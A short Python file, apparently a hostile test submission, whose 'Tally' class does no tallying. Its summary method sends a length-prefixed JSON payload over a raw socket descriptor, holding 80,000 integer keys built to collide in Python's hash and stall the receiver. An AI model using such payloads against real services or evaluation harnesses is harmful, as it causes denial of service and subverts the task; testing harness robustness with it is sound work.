"""Answers with a dictionary whose keys all have the same hash, which takes ages to build."""

import json
import socket
import struct

P = 2**61 - 1


class Tally:
    def __init__(self, limit=None):
        self.total = 0

    def add(self, number):
        return 0

    def summary(self):
        pairs = [[{"!": "int", "v": hex(P * key)}, 0] for key in range(1, 80_000)]
        body = json.dumps({"ok": {"!": "dict", "v": pairs}}, separators=(",", ":")).encode()
        socket.socket(fileno=5).sendall(struct.pack(">I", len(body)) + body)
        return 0
